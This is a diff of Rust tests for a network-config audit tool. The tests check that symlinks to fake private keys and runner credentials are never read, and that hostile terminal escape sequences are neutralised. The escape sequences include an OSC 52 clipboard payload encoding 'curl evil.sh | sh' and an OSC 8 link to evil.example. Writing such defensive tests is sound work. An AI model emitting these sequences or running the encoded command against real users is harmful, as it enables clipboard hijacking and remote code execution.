@@ -65,12 +65,8 @@ fn audit(snap: &Path, format: &str) -> Output {
 }
 
 fn json(out: &Output) -> serde_json::Value {
-    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
-        panic!(
-            "not JSON ({e}): {}",
-            String::from_utf8_lossy(&out.stderr)
-        )
-    })
+    serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stderr)))
 }
 
 /// The PARSE010 findings of a JSON report, as (device, message).
@@ -111,9 +107,14 @@ fn a_link_out_of_the_snapshot_is_named_and_never_read() {
     let secret = dir.join("id_ed25519");
     std::fs::write(
         &secret,
-        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{MARKER}\nfeature lldp\n"),
+        format!("{MARKER} -----BEGIN OPENSSH PRIVATE KEY-----\nfeature lldp\n"),
     )
     .unwrap();
+    // The pull request also names leaf9 an NX-OS switch, so a followed link would be parsed
+    // and its lines echoed as unrecognized (what today's main does, in every format).
+    let mut fabric = std::fs::read_to_string(snap.join("fabric.toml")).unwrap();
+    fabric.push_str("\n[[device]]\nname = \"leaf9\"\nplatform = \"nxos\"\n");
+    std::fs::write(snap.join("fabric.toml"), fabric).unwrap();
     let secrets = dir.join("secrets");
     std::fs::create_dir_all(&secrets).unwrap();
     std::fs::write(secrets.join("show_version.txt"), format!("{MARKER}\n")).unwrap();
@@ -158,8 +159,16 @@ fn a_link_out_of_the_snapshot_is_named_and_never_read() {
         .iter()
         .filter_map(|d| d["name"].as_str())
         .collect();
-    assert!(devices.contains(&"leaf1"));
-    assert!(!devices.contains(&"leaf9") && !devices.contains(&"leaf7"));
+    assert!(devices.contains(&"leaf1") && !devices.contains(&"leaf7"));
+    let leaf9 = m["devices"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["name"] == "leaf9");
+    assert!(
+        leaf9.is_none_or(|d| d["parse"].as_array().is_none_or(|p| p.is_empty())),
+        "a file was read for leaf9: {leaf9:?}"
+    );
     let _ = std::fs::remove_dir_all(&dir);
 }
 
@@ -207,7 +216,8 @@ fn fifos_and_dev_zero_are_refused_without_blocking() {
         ),
     ] {
         assert!(
-            r.iter().any(|(_, m)| m.starts_with(&format!("{file} {what}"))),
+            r.iter()
+                .any(|(_, m)| m.starts_with(&format!("{file} {what}"))),
             "{file}: no PARSE010 saying it {what}: {r:?}"
         );
     }
@@ -291,8 +301,11 @@ fn review_of_a_commit_adding_a_link_does_not_post_runner_files() {
     common::git(&repo, &["add", "-A"]);
     common::git(&repo, &["commit", "-q", "-m", "fabric"]);
     let secret = dir.join("runner-credentials");
-    std::fs::write(&secret, format!("{MARKER}\n")).unwrap();
+    std::fs::write(&secret, format!("{MARKER} token=abc\nfeature lldp\n")).unwrap();
     link(&secret, &snap.join("configs/leaf9.cfg"));
+    let mut fabric = std::fs::read_to_string(snap.join("fabric.toml")).unwrap();
+    fabric.push_str("\n[[device]]\nname = \"leaf9\"\nplatform = \"nxos\"\n");
+    std::fs::write(snap.join("fabric.toml"), fabric).unwrap();
     common::git(&repo, &["add", "-A"]);
     common::git(&repo, &["commit", "-q", "-m", "add leaf9"]);
     for format in FORMATS {
@@ -318,7 +331,10 @@ fn review_of_a_commit_adding_a_link_does_not_post_runner_files() {
             "{format}: {}",
             String::from_utf8_lossy(&out.stderr)
         );
-        assert!(!text.contains(MARKER), "{format}: runner file in the review");
+        assert!(
+            !text.contains(MARKER),
+            "{format}: runner file in the review"
+        );
         assert!(
             text.contains("PARSE010") && text.contains("leaf9.cfg"),
             "{format}: the link is not named:\n{text}"
@@ -348,7 +364,10 @@ const PAYLOADS: [(&str, &str); 5] = [
     ("osc52", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"),
     ("osc0", "\x1b]0;owned\x07"),
     ("csi2j", "\x1b[2J\x1b[H"),
-    ("osc8", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
+    (
+        "osc8",
+        "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    ),
     ("c1csi", "\u{9b}31m"),
 ];
 
@@ -450,7 +469,12 @@ fn model_and_findings(snap: &Path) -> (serde_json::Value, Vec<String>) {
         .as_array()
         .unwrap()
         .iter()
-        .map(|f| format!("{} {} {} {}", f["rule"], f["device"], f["interface"], f["message"]))
+        .map(|f| {
+            format!(
+                "{} {} {} {}",
+                f["rule"], f["device"], f["interface"], f["message"]
+            )
+        })
         .collect();
     (m, f)
 }
@@ -493,8 +517,12 @@ fn bom(t: &str) -> Vec<u8> {
 /// and the same findings as the LF original.
 #[test]
 fn every_line_ending_and_a_bom_read_the_same_on_every_platform() {
-    let cases: [(&str, &dyn Fn(&str) -> Vec<u8>); 4] =
-        [("cr", &cr_only), ("crlf", &crlf), ("mixed", &mixed), ("bom", &bom)];
+    let cases: [(&str, &dyn Fn(&str) -> Vec<u8>); 4] = [
+        ("cr", &cr_only),
+        ("crlf", &crlf),
+        ("mixed", &mixed),
+        ("bom", &bom),
+    ];
     for fixture in ["clean-fabric", "clean-mixed-fabric"] {
         let (m0, f0) = model_and_findings(&common::fixtures().join(fixture));
         let platforms: std::collections::BTreeSet<&str> = m0["devices"]
@@ -553,12 +581,15 @@ fn a_nul_byte_is_reported_on_every_platform() {
         let v = json(&audit(&snap, "json"));
         for (dev, f) in files {
             assert!(
-                v["findings"].as_array().unwrap().iter().any(|x| x["rule"]
-                    == "PARSE003"
-                    && x["device"] == *dev
-                    && x["message"]
-                        .as_str()
-                        .is_some_and(|m| m.contains(f) && m.contains("NUL byte at line 2"))),
+                v["findings"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .any(|x| x["rule"] == "PARSE003"
+                        && x["device"] == *dev
+                        && x["message"]
+                            .as_str()
+                            .is_some_and(|m| m.contains(f) && m.contains("NUL byte at line 2"))),
                 "{fixture} {f}: NUL not reported"
             );
         }
@@ -597,8 +628,8 @@ fn a_cr_only_nxos_config_keeps_its_fault() {
         .unwrap()
         + 1;
     assert!(
-        fs.iter().any(|f| f["rule"] == "PFC001"
-            && f["source"]["line"].as_u64() == Some(line as u64)),
+        fs.iter()
+            .any(|f| f["rule"] == "PFC001" && f["source"]["line"].as_u64() == Some(line as u64)),
         "PFC001 does not cite line {line}"
     );
     let _ = std::fs::remove_dir_all(&dir);
